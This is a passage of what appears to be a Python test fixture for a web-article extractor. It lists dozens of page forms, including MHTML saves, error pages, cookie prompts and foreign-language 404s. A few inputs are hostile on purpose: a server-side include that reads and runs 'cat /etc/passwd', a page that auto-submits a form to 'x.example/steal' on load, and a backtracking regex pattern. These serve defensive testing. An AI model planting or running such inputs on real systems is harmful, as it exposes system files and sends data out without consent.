    Kind("page named as a script of a server", "rain.php", lambda s: s.page(), 1),
    Kind("Korean page in EUC-KR that says so", "a.html", korean_page, 1),
    Kind("page whose story stands in elements of its own names", "a.html", own_elements, 1),
    Kind("a page that an archive of the web does not have", "a.html", lambda s: notice("Wayback Machine", "Hrm.", "The Wayback Machine has not archived that URL.", "This page is not available on the web because page does not exist."), 0, ("not an article",)),
    Kind("a warning before a large download", "a.html", lambda s: notice("Google Drive - Virus scan warning", "Google Drive can't scan this file for viruses", "rain.zip (184M) is too large for Google to scan for viruses. Would you still like to download this file?", "Download anyway"), 0, ("not an article",)),
    Kind("a page that is not there, in Turkish", "a.html", lambda s: notice("Sayfa bulunamadı", "Aradığınız sayfa kaldırılmış veya adresi değiştirilmiş olabilir.", "Ana sayfaya dön"), 0, ("not an article",)),
    Kind("a page to log in, in Norwegian", "a.html", lambda s: notice("Logg inn", "E-post", "Passord", "Glemt passord?", "Har du ikke konto? Registrer deg."), 0, ("not an article",)),
    Kind("a question about cookies, in Polish", "a.html", lambda s: notice("Szanujemy Twoją prywatność", "My i nasi partnerzy przechowujemy informacje na urządzeniu, takie jak pliki cookie, i uzyskujemy do nich dostęp.", "Zaakceptuj wszystko", "Ustawienia zaawansowane"), 0, ("not an article",)),
    Kind("table named as a page", "articles.html", lambda s: s.table(), 3),
    Kind("page of elements of its own", "a.html", lambda s: f"<!DOCTYPE html><html><head><title>Rain in {s.mark}</title></head><body><news-story><news-head>Rain in {s.mark}</news-head>" + "".join(f"<news-par>{p}</news-par>" for p in s.long().split("\n\n")) + "</news-story></body></html>", 1),
    Kind("MHTML with escapes that are none", "a.mhtml", lambda s: "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://l.example/rain\r\nSubject: Rain\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"----b\"\r\n\r\n------b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://l.example/rain\r\n\r\n" + story_page(s).replace("=", "=3D").replace("early", "early =ZZ =G1") + "\r\n------b--\r\n", 1),
    Kind("plug-ins of old browsers behind each paragraph", "a.html", lambda s: between(s, PLUGINS), 1),
    Kind("page with an include of a server", "a.shtml", lambda s: between(s, '<!--#include file="/etc/passwd" --><!--#exec cmd="cat /etc/passwd" -->'), 1),
    Kind("MHTML with its labels in small letters", "a.mhtml", lambda s: small(mhtml(s.page())), 1),
    Kind("MHTML with a damaged picture beside its page", "a.mhtml", lambda s: mhtml(s.page(), more=picture(1, PNG[:50] + "!!*%" + PNG[50:99])), 1),
    Kind("MHTML of a page that is not there", "a.mhtml", lambda s: mhtml(LOST, title="Page not found"), 0, ("not an article",)),
    Kind("MHTML whose bound holds signs of patterns", "a.mhtml", lambda s: mhtml(s.page(), bound="(.+)+?(rain+)+.?"), 1),
    Kind("page of AMP", "a.html", amp, 1),
    Kind("page as the reading view of a browser saved it", "a.html", reading_view, 1),
    Kind("print view whose paragraphs are parted by two breaks", "a.htm", print_view, 1),
    Kind("page whose story stands in a shadow root", "a.html", shadow, 1),
    Kind("page that Word saved as one file", "a.mht", word_page, 1),
    Kind("a page that is not there, in Danish", "a.html", lambda s: notice("Siden blev ikke fundet", "Siden, du leder efter, findes ikke længere eller er blevet flyttet. Gå til forsiden."), 0, ("not an article",)),
    Kind("a page that is not there, in Indonesian", "a.html", lambda s: notice("Halaman tidak ditemukan", "Halaman yang Anda cari tidak ada atau sudah dipindahkan. Kembali ke beranda."), 0, ("not an article",)),
    Kind("a page to log in, in Italian", "a.html", lambda s: notice("Accedi - La Gazzetta di Collina", "Indirizzo e-mail", "Password", "Hai dimenticato la password?", "Non hai un account? Registrati."), 0, ("not an article",)),
    Kind("a check for robots, in Portuguese", "a.html", lambda s: notice("Verificação de segurança", "Confirme que você não é um robô para continuar.", "Estamos verificando o seu navegador antes de acessar l.example."), 0, ("not an article",)),
    Kind("a question about cookies, in Swedish", "a.html", lambda s: notice("Vi använder cookies", "Vi och våra partner använder cookies för att lagra och läsa information på din enhet.", "Godkänn alla", "Avvisa alla", "Inställningar"), 0, ("not an article",)),
    Kind("a page that Tomcat does not find", "a.html", lambda s: TOMCAT, 0, ("not an article",)),
    Kind("an error of a program of ASP.NET", "a.html", lambda s: ASPNET, 0, ("not an article",)),
    Kind("a site without its database", "a.html", lambda s: DATABASE, 0, ("no story",)),
    Kind("a page that the filter of an office blocked", "a.html", lambda s: notice("Web Page Blocked", "The page you have requested has been blocked, because the URL is banned.", "URL: https://ledger.example/rain", "Category: News and Media", "Client IP: 192.0.2.7"), 0, ("not an article",)),
    Kind("a page to log in to the network of a hotel", "a.html", lambda s: notice("Guest Wi-Fi Login", "Enter your room number and last name to connect.", "Room number", "Last name", "Connect"), 0, ("no story",)),
    Kind("post that Medium hands out", "2026-03-01_Rain-1.html", medium, 1),
    Kind("note that Evernote hands out as a page", "Rain.html", evernote, 1),
    Kind("page that Internet Explorer 8 saved", "rain.htm", explorer, 1),
    Kind("page with readings above words", "a.html", lambda s: s.page().replace("council", "<ruby>council<rp>(</rp><rt>kownsil</rt><rp>)</rp></ruby>"), 1),
    Kind("MHTML of Internet Explorer of a page alone", "rain.mht", mht_explorer, 1),
    Kind("MHTML whose start names the page behind a picture", "rain.mhtml", mht_start, 1),
    Kind("a page that is not there, in Finnish", "a.html", lambda s: notice("Sivua ei löydy", "Etsimääsi sivua ei löytynyt. Se on ehkä siirretty tai poistettu. Palaa etusivulle."), 0, ("not an article",)),
    Kind("a page that is not there, in Greek", "a.html", lambda s: notice("Η σελίδα δεν βρέθηκε", "Η σελίδα που ζητήσατε δεν υπάρχει ή έχει μετακινηθεί. Επιστροφή στην αρχική σελίδα."), 0, ("not an article",)),
    Kind("a gateway without an answer", "a.html", lambda s: "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx/1.24.0</center>\r\n</body>\r\n</html>\r\n", 0, ("not an article",)),
    Kind("a check for robots below its own address", "a.html", lambda s: "<html><head><title>https://search.example/?q=rain</title></head><body><form action='/check'><input type=submit></form><hr>We have noticed unusual traffic from your network. This page checks whether you are a person and not a robot that sends these requests.<br>IP address: 192.0.2.1<br>Time: 2026-03-01T10:00:00Z<br>URL: https://search.example/?q=rain</body></html>", 0, ("not an article",)),
    Kind("post in the blocks of WordPress without a head", "a.html", blocks, 1),
    Kind("page as an archive of today keeps it, in boxes with styles", "a.html", archived_today, 1),
    Kind("page that an add-on saved with labels of its own", "a.html", lambda s: s.page(head=WE), 1),
    Kind("MHTML of one part", "a.mht", mht_of_one, 1),
    Kind("Thai page in TIS-620 that says so", "a.html", lambda s: said(s, "tis-620", THAI_HEADLINE, "ฝนตกหนักในเมืองเมื่อวันจันทร์ และสภาเมืองกลับบ้านก่อนเวลา"), 1, fields={"headline": THAI_HEADLINE}),
    Kind("Brazilian page with its time of publication", "a.html", brazil, 1, fields=DAY),
    Kind("page that sends a form as soon as it is opened", "a.html", lambda s: s.page().replace("<body>", '<body onload="document.forms[0].submit()"><form action="http://x.example/steal" method="post"><input type="hidden" name="a" value="1"></form>'), 1),
    Kind("a page that is not there or was moved, in Finnish", "a.html", lambda s: notice("Sivua ei löytynyt", "Etsimääsi sivua ei ole olemassa tai se on siirretty. Palaa etusivulle."), 0, ("not an article",)),
    Kind("a cache that gets no answer from its server", "a.html", lambda s: '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html>\n<html><head><title>503 Backend fetch failed</title></head><body><h1>Error 503 Backend fetch failed</h1><p>Backend fetch failed</p><h3>Guru Meditation:</h3><p>XID: 32770</p><hr><p>Varnish cache server</p></body></html>', 0, ("no story",)),
    Kind("a network of copies that refuses a request", "a.html", lambda s: '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd"><HTML><HEAD><TITLE>ERROR: The request could not be satisfied</TITLE></HEAD><BODY><H1>403 ERROR</H1><H2>The request could not be satisfied.</H2><HR noshade size="1px">Request blocked. We can\'t connect to the server for this app or website at this time. There might be too much traffic or a configuration error. Try again later, or contact the app or website owner.<BR clear="all"><PRE>Generated by cloudfront (CloudFront)\nRequest ID: ab</PRE></BODY></HTML>', 0, ("not an article",)),
    Kind("a button to press and hold", "a.html", lambda s: notice("Access to this page has been denied.", "Press &amp; Hold to confirm you are a human (and not a bot).", "Reference ID ab-1"), 0, ("not an article",)),
    Kind("a search engine that asks before one goes on", "a.html", lambda s: notice("Before you continue", "We use cookies and data to deliver and maintain services, track outages and protect against spam, fraud and abuse.", "If you choose to accept all, we will also use cookies and data to develop and improve new services.", "Reject all", "Accept all"), 0, ("not an article",)),
    Kind("picture named as a page", "a.html", lambda s: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x02\0\0\0\x02\0\x08\x02\0\0\0" + bytes((n * 91 + 13) % 256 for n in range(3000)), 0, ("form not known",)),
    Kind("page with pictures that are loaded late", "a.html", lazy, 1),
    Kind("page of a newsletter's host with boxes to subscribe in the story", "a.html", newsletter, 1),
    Kind("page of Drupal", "a.html", drupal, 1),
    Kind("page of a site builder with spans in spans", "a.html", builder, 1),
    Kind("page that holds its story a second time in a script", "a.html", fusion, 1),
    Kind("Hebrew page from right to left in UTF-8", "a.html", rtl, 1),
    Kind("linked data of two types at once", "a.html", two_types, 1, fields={"published": "2026-03-02"}),
    Kind("MHTML whose subject is encoded over two lines", "Rain.mhtml", mht_subject, 1),
    Kind("page with one story for telephones and one for screens", "a.html", twice_shown, 1),
    Kind("a page that is not there, in Hungarian", "a.html", lambda s: notice("Az oldal nem található", "A keresett oldal nem létezik vagy elköltözött."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Romanian", "a.html", lambda s: notice("Pagina nu a fost găsită", "Ne pare rău, pagina căutată nu există."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Ukrainian", "a.html", lambda s: notice("Сторінку не знайдено", "На жаль, такої сторінки не існує."), 0, NOT_AN_ARTICLE),
    Kind("an error page of Spring", "a.html", lambda s: notice("Whitelabel Error Page", "This application has no explicit mapping for /error, so you are seeing this as a fallback.", "There was an unexpected error (type=Not Found, status=404)."), 0, NOT_AN_ARTICLE),
    Kind("an error of a script in the browser", "a.html", lambda s: notice("Application error: a client-side exception has occurred", "See the browser console for more information."), 0, NO_STORY),
    Kind("a page that has expired", "a.html", lambda s: notice("Page Expired", "Please refresh the page and try again.", headline="419 Page Expired"), 0, NO_STORY),
    Kind("page cut in a word of its third paragraph", "a.html", cut_in_third, 1),
]  # fmt: skip
